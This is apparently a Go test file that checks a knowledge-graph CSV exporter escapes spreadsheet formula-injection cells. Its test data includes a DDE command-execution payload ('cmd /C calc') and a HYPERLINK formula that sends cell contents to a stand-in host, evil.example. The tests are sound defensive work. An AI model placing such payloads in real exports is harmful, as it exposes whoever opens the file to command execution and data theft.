package export

import (
	"bytes"
	"context"
	"encoding/csv"
	"path/filepath"
	"strings"
	"testing"

	"github.com/kg-project/kg/internal/graph"
)

func TestCSVCell(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1":                     "'=1+1",
		"=HYPERLINK(\"http://x\")": "'=HYPERLINK(\"http://x\")",
		"+1":                       "'+1",
		"-2+3":                     "'-2+3",
		"-cmd|' /C calc'!A0":       "'-cmd|' /C calc'!A0",
		"@SUM(A1:A9)":              "'@SUM(A1:A9)",
		"\t=1":                     "'\t=1",
		"\r=1":                     "'\r=1",
		"-":                        "'-",
		"-3":                       "-3",
		"-0.5":                     "-0.5",
		"-1.5e-07":                 "-1.5e-07",
		"42":                       "42",
		"":                         "",
		"a=b":                      "a=b",
		" =1":                      " =1",
		"'=1":                      "'=1",
		"Vladimir Putin":           "Vladimir Putin",
		"=بوتين":                   "'=بوتين",
	} {
		if got := CSVCell(in); got != want {
			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestCSVInjection: both CSV writers escape hostile cells, headers
// included, and keep numbers as numbers.
func TestCSVInjection(t *testing.T) {
	hostile := "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
	res := &graph.Result{
		Keys: []string{"=name", "n", "list"},
		Rows: [][]any{{hostile, int64(-3), []any{"@a", "b"}}, {"-1+1", -0.5, "+x"}},
	}
	var buf bytes.Buffer
	if err := ResultCSV(res, &buf); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"'=name", "n", "list"}, {"'" + hostile, "-3", "'@a | b"}, {"'-1+1", "-0.5", "'+x"}}
	for i := range want {
		if strings.Join(rows[i], "\x00") != strings.Join(want[i], "\x00") {
			t.Errorf("row %d: %q, want %q", i, rows[i], want[i])
		}
	}

	f := fakeGraph()
	f.entities[0]["name"] = hostile
	f.entities[0]["n"] = int64(-7)
	f.entities[0]["aliases"] = []any{"@evil", "x"}
	dir := filepath.Join(t.TempDir(), "out")
	if _, err := Graph(context.Background(), f, Options{}, NewCSVDir(dir)); err != nil {
		t.Fatal(err)
	}
	nodes := readCSV(t, filepath.Join(dir, "nodes.csv"))
	var e []string
	for _, r := range nodes {
		if r[0] == "e" {
			e = r
		}
	}
	// id,label,type,labels,aliases,key,n,name
	if e == nil || e[1] != "'"+hostile || e[4] != "'@evil | x" || e[6] != "-7" || e[7] != "'"+hostile {
		t.Errorf("nodes.csv row: %q", e)
	}
}
